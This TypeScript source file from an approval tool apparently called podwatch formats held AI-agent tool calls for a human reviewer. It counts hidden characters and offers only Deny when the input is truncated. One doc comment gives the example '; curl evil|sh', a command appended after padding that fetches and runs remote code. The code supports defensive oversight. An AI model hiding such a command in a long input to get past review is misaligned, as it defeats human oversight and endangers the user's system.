// How a held tool call reads on its inbox card: the command (or the whole input, pretty) and
// what its deadline will decide. Pure, so the card's wording is tested without a browser.
import { revealHidden } from "@/server/wire/reveal-hidden";
import { INPUT_CUT_MARK } from "@/server/wire/vocabulary";

/**
 * How much of a call's input the hook route keeps on the approval (GATED_INPUT_MAX of the domain;
 * a test holds the two equal — the client does not import the event schemas for one number).
 */
export const SHOWN_INPUT_MAX = 20_000;
/** The route's `cut` ends a shortened text with this. */
const CUT_MARK = "…";

export type HeldInput = {
  /** A Bash command, shown on its own in a code block. */
  command: string | null;
  /** The whole input: pretty JSON, or the text as it came when it is not JSON (cut by the route). */
  pretty: string;
  /**
   * Whether the card shows all the agent would run. The route stores the input as JSON cut at
   * SHOWN_INPUT_MAX with a trailing "…"; a cut one no longer parses. Allowing it would allow a call
   * the person could not read to its end (padding, then `; curl evil|sh`), so the card offers only Deny.
   */
  whole: boolean;
  /** How many hidden or control characters the agent's input holds (each once, though the card may show it twice). */
  hidden: number;
};

export function heldInput(text: string | undefined): HeldInput {
  if (!text) return { command: null, pretty: "", whole: false, hidden: 0 };
  try {
    const value: unknown = JSON.parse(text);
    const command =
      value && typeof value === "object" && typeof (value as { command?: unknown }).command === "string"
        ? (value as { command: string }).command
        : null;
    // The route's JSON of an input object never ends with the mark: a text that does was cut, whatever parses.
    // A long text inside may be cut and marked (a Write's content): not whole either (as the server rules).
    return {
      command,
      pretty: JSON.stringify(value, null, 2),
      whole: !text.endsWith(CUT_MARK) && !text.includes(INPUT_CUT_MARK),
      hidden: hiddenIn(value),
    };
  } catch {
    return { command: null, pretty: text, whole: false, hidden: revealHidden(text).hidden };
  }
}

/** Hidden characters in a parsed input's keys and strings (the JSON's own escapes are not the agent's). */
function hiddenIn(value: unknown): number {
  if (typeof value === "string") return revealHidden(value).hidden;
  if (!value || typeof value !== "object") return 0;
  const entries = Array.isArray(value) ? value.map((v) => ["", v] as const) : Object.entries(value);
  return entries.reduce((n, [k, v]) => n + revealHidden(k).hidden + hiddenIn(v), 0);
}

/** The banner of a call the card cannot show whole. */
export function notWholeSentence(text: string | undefined): string {
  if (!text) return "podwatch has no input for this call to show: only Deny is offered";
  return `This call's input is longer than podwatch shows (${SHOWN_INPUT_MAX.toLocaleString("en-US")} characters): only Deny is offered`;
}

/** "Denied automatically at 14:05 unless someone answers", the time in the reader's own clock. */
export function deadlineSentence(
  due: { at: string; answer?: string } | undefined,
  timeOf: (d: Date) => string,
): string | null {
  if (!due) return null;
  const verdict = due.answer === "allow" ? "Allowed" : "Denied";
  return `${verdict} automatically at ${timeOf(new Date(due.at))} unless someone answers`;
}
